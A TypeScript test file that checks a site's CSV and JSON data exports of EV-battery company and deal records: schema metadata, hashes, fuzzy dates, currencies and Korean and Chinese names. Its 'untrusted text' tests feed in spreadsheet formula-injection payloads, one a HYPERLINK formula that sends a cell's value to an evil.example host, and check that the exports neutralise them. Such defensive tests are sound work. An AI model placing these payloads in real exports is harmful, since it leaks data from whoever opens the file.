import { createHash } from 'node:crypto';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, test } from 'vitest';
import { generateCorpus, writeCorpus } from '../../../scripts/generate-corpus.ts';
import { buildGraph } from '../../../src/lib/graph/graph';
import { BOM } from '../../../src/lib/publishing/csv';
import {
  EXPORT_TABLES,
  exportFiles,
  exportTables,
  isoDateTime,
  packageName,
  type ExportContext,
} from '../../../src/lib/publishing/exports';
import { csvExportName } from '../../../src/lib/routes';
import { loadContentRoot, minimalInput, readContentRoot } from '../../support/content';
import { expectedRows, ownSources, readCsv, readTable, type SchemaField } from '../../support/exports';

const SITE = 'https://briefing.example.com';
const MINIMAL = join(import.meta.dirname, '../../fixtures/minimal');
const BUNDLED = join(import.meta.dirname, '../../../src/content');

function context(root: string): ExportContext {
  const { graph, site } = loadContentRoot(root);
  return { graph, site, siteUrl: new URL(SITE) };
}

interface Package {
  name: string;
  sources: { title: string; path: string }[];
  resources: {
    name: string;
    type?: string;
    path: string;
    format: string;
    mediatype: string;
    encoding: string;
    bytes: number;
    hash: string;
    dialect?: Record<string, unknown>;
    schema?: { fields: (SchemaField & { constraints?: { enum?: string[] } })[]; primaryKey?: string[] };
  }[];
}

/** The files of a context's exports, by name, and its data package. */
function built(ctx: ExportContext) {
  const files = new Map(exportFiles(ctx).map((f) => [f.name, f]));
  const pkg = JSON.parse(files.get('datapackage.json')!.text) as Package;
  const dataset = JSON.parse(files.get('dataset.json')!.text) as { tables: Record<string, Record<string, unknown>[]> };
  return { files, pkg, dataset };
}

describe.each([
  ['the minimal fixture', MINIMAL],
  ['the bundled dataset', BUNDLED],
  ['the hostile fixture', join(import.meta.dirname, '../../fixtures/hostile')],
])('the exports of %s', (_, root) => {
  const ctx = context(root);
  const { files, pkg, dataset } = built(ctx);
  const expected = expectedRows(ctx.graph, ctx.site, SITE);

  test('one CSV per table, dataset.json and datapackage.json', () => {
    expect([...files.keys()]).toEqual([...EXPORT_TABLES.map(csvExportName), 'dataset.json', 'datapackage.json']);
  });

  test.each(EXPORT_TABLES)('%s.csv reads back (csv-parse, schema types) to what the graph holds', (table) => {
    const resource = pkg.resources.find((r) => r.name === table)!;
    const rows = readTable(files.get(csvExportName(table))!.text, resource.schema!.fields);
    expect(rows).toEqual(dataset.tables[table]);
    expect(rows).toHaveLength(expected[table]!.length);
    rows.forEach((row, i) => expect(row).toMatchObject(expected[table]![i]!));
  });

  test('every row carries its sources and an absolute page URL on the configured site', () => {
    for (const table of EXPORT_TABLES) {
      for (const row of dataset.tables[table]!) {
        expect((row.source_ids as string[]).length, `${table} ${JSON.stringify(row)}`).toBeGreaterThan(0);
        expect(String(row.page_url)).toMatch(new RegExp(`^${SITE}/`));
      }
    }
    for (const collection of ['companies', 'people', 'deals', 'events', 'quotes', 'sources', 'briefings'] as const) {
      for (const node of ctx.graph.all(collection)) {
        const row = dataset.tables[collection]!.find((r) => r.id === node.ref.id)!;
        expect(row.source_ids).toEqual(expect.arrayContaining(ownSources(node)));
      }
    }
  });

  test('datapackage.json describes every file, field and type', () => {
    expect(pkg.resources.map((r) => r.path)).toEqual([...files.keys()].filter((n) => n !== 'datapackage.json'));
    for (const resource of pkg.resources) {
      const file = files.get(resource.path)!;
      expect(resource).toMatchObject({ encoding: 'utf-8', format: resource.path.split('.').pop() });
      expect(resource.mediatype).toBe(file.mediatype);
      expect(resource.bytes).toBe(Buffer.byteLength(file.text));
      expect(resource.hash).toBe(`sha256:${createHash('sha256').update(file.text).digest('hex')}`);
      if (resource.path.endsWith('.csv')) {
        expect(resource.type).toBe('table');
        expect(resource.dialect).toMatchObject({ header: true, delimiter: ',', lineTerminator: '\r\n' });
        const fields = resource.schema!.fields;
        expect(readCsv(file.text)[0]).toEqual(fields.map((f) => f.name));
        for (const field of fields) {
          expect(field.name).toMatch(/^[a-z][a-z0-9_]*$/);
          expect(['string', 'number', 'integer', 'boolean', 'date', 'datetime', 'list', 'array']).toContain(field.type);
          expect(field.description!.length).toBeGreaterThan(10);
          if (field.type === 'list') expect(field.delimiter).toBe(',');
          // Values of closed lists are among the values the field declares.
          const values = field.constraints?.enum;
          if (values) {
            for (const row of dataset.tables[resource.name]!) {
              if (row[field.name] !== null) expect(values).toContain(row[field.name]);
            }
          }
        }
      }
    }
    expect(pkg.sources.length).toBe(ctx.graph.all('sources').length);
    expect(pkg.name).toMatch(/^[a-z0-9._-]+$/);
  });
});

describe('faithful values', () => {
  const bundled = built(context(BUNDLED)).dataset.tables;

  test('a fuzzy date is its text with the earliest and latest day it can mean', () => {
    const deal = bundled.deals!.find((d) => d.id === 'catl-kia-pv5-batteries')!;
    expect(deal).toMatchObject({
      announced: '2025 before 2025-07-09',
      announced_earliest: '2025-01-01',
      announced_latest: '2025-07-08',
    });
    const lges = bundled.deals!.find((d) => d.id === 'lg-energy-solution-chery-ev-46-series-cells')!;
    expect(lges).toMatchObject({
      term_start: 'early 2026',
      term_start_earliest: '2026-01-01',
      term_start_latest: '2026-04-30',
    });
    const event = bundled.events!.find((e) => e.id === 'catl-hungary-plant-100-gwh')!;
    expect(event).toMatchObject({ date: 'by end of 2025', date_earliest: '2025-01-01', date_latest: '2025-12-31' });
  });

  test('money keeps its currency, qualifier, estimate and the conversion only as reported', () => {
    const lges = bundled.deals!.find((d) => d.id === 'lg-energy-solution-chery-ev-46-series-cells')!;
    expect(lges).toMatchObject({
      value_amount: 1000000000000,
      value_currency: 'KRW',
      value_qualifier: 'more-than',
      value_estimated: true,
      value_converted_amount: 726000000,
      value_converted_currency: 'USD',
      supplier: 'LG Energy Solution',
      supplier_ids: ['lg-energy-solution'],
      customer_ids: ['chery-ev'],
      investor_ids: [],
    });
    const solus = bundled.deals!.find((d) => d.id === 'solus-advanced-materials-catl-copper-foil')!;
    expect(solus).toMatchObject({ value_amount: null, value_converted_amount: null, value_estimated: null });
  });

  test('names in Chinese and Korean survive the CSV byte for byte', () => {
    const text = built(context(BUNDLED)).files.get('companies.csv')!.text;
    expect(text.startsWith(BOM)).toBe(true);
    expect(text).toContain('宁德时代');
    expect(text).toContain('기아');
    const rows = readCsv(text);
    const catl = rows.find((r) => r[0] === 'catl')!;
    expect(JSON.parse(catl[rows[0]!.indexOf('aliases')]!)).toEqual(['Contemporary Amperex Technology', '宁德时代']);
  });

  test('timestamps are XML Schema datetimes with their offset', () => {
    expect(isoDateTime('2025-07-09T19:18+09:00')).toBe('2025-07-09T19:18:00+09:00');
    expect(isoDateTime('2025-07-09T19:18:05Z')).toBe('2025-07-09T19:18:05Z');
    expect(bundled.sources![0]!.published).toBe('2025-07-09T19:18:00+09:00');
  });

  test('a package name from any title', () => {
    expect(packageName('Briefing: EV batteries')).toBe('briefing-ev-batteries');
    expect(packageName('배터리 브리핑')).toBe('data');
  });
});

describe('untrusted text', () => {
  const hostile = {
    formula: '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    plus: '+1+2',
    minus: '-2+3 Widgets',
    at: '@SUM(1,2)',
    quoted: 'Acme "the best", widgets; since 1900\nnew line',
  };
  const input = minimalInput();
  const acme = input.companies.find((c) => c.id === 'acme-widgets')!;
  acme.data = { ...acme.data, name: hostile.formula, shortName: hostile.plus, description: hostile.quoted };
  const globex = input.companies.find((c) => c.id === 'globex')!;
  globex.data = { ...globex.data, name: hostile.minus, aliases: [hostile.at] };
  const { site } = readContentRoot(MINIMAL);
  const ctx: ExportContext = { graph: buildGraph(input, site.vocabulary), site, siteUrl: new URL(SITE) };
  const { files, pkg, dataset } = built(ctx);
  const csv = readCsv(files.get('companies.csv')!.text);
  const header = csv[0]!;
  const cell = (id: string, column: string) => csv.find((r) => r[0] === id)![header.indexOf(column)];

  test('cells a spreadsheet would run as formulas begin with an apostrophe', () => {
    expect(cell('acme-widgets', 'name')).toBe(`'${hostile.formula}`);
    expect(cell('acme-widgets', 'short_name')).toBe(`'${hostile.plus}`);
    expect(cell('globex', 'name')).toBe(`'${hostile.minus}`);
    // Names of related entities are text cells too.
    expect(cell('globex', 'parent_name')).toBe(`'${hostile.formula}`);
    const deals = readCsv(files.get('deals.csv')!.text);
    expect(deals[1]![deals[0]!.indexOf('supplier')]).toBe(`'${hostile.formula}`);
  });

  test('no text cell of any table begins with a formula character', () => {
    for (const resource of pkg.resources.filter((r) => r.schema)) {
      const [, ...records] = readCsv(files.get(resource.path)!.text);
      for (const record of records) {
        resource.schema!.fields.forEach((field, i) => {
          if (field.type === 'string') expect(record[i]!, `${resource.name}.${field.name}`).not.toMatch(/^[=+\-@\t\r]/);
        });
      }
    }
  });

  test('quotes, commas, semicolons and newlines stay inside their cell', () => {
    expect(cell('acme-widgets', 'description')).toBe(hostile.quoted);
    expect(csv.every((r) => r.length === header.length)).toBe(true);
  });

  test('dataset.json and the typed reading of the CSV keep the text exactly as written', () => {
    const row = dataset.tables.companies!.find((r) => r.id === 'acme-widgets')!;
    expect(row).toMatchObject({ name: hostile.formula, short_name: hostile.plus, description: hostile.quoted });
    const fields = pkg.resources.find((r) => r.name === 'companies')!.schema!.fields;
    expect(readTable(files.get('companies.csv')!.text, fields)).toEqual(dataset.tables.companies);
  });
});

describe('a synthetic corpus', () => {
  const work = mkdtempSync(join(tmpdir(), 'exports-corpus-'));
  afterAll(() => rmSync(work, { recursive: true, force: true }));
  writeCorpus(work, generateCorpus({ pages: 60, seed: 7 }));
  const ctx = context(work);
  const tables = exportTables(ctx);
  const bundled = exportTables(context(BUNDLED));

  test('has the same columns as any other beat: names from fields, not from the beat', () => {
    const columns = (t: typeof tables) => t.map((table) => [table.name, table.fields.map((f) => f.name)]);
    expect(columns(tables)).toEqual(columns(bundled));
  });

  test('labels its kinds and units with its own vocabulary', () => {
    const companies = tables.find((t) => t.name === 'companies')!;
    const labels = Object.values(ctx.site.vocabulary.companyKinds);
    for (const row of companies.rows) expect(labels).toContain(row.kind_label);
    const kinds = companies.fields.find((f) => f.name === 'kind')!.constraints!.enum;
    expect(kinds).toEqual(Object.keys(ctx.site.vocabulary.companyKinds));
  });

  test('reads back to what its graph holds', () => {
    const { files, pkg } = built(ctx);
    const expected = expectedRows(ctx.graph, ctx.site, SITE);
    for (const table of EXPORT_TABLES) {
      const fields = pkg.resources.find((r) => r.name === table)!.schema!.fields;
      const rows = readTable(files.get(csvExportName(table))!.text, fields);
      expect(rows).toHaveLength(expected[table]!.length);
      rows.forEach((row, i) => expect(row).toMatchObject(expected[table]![i]!));
    }
  });
});
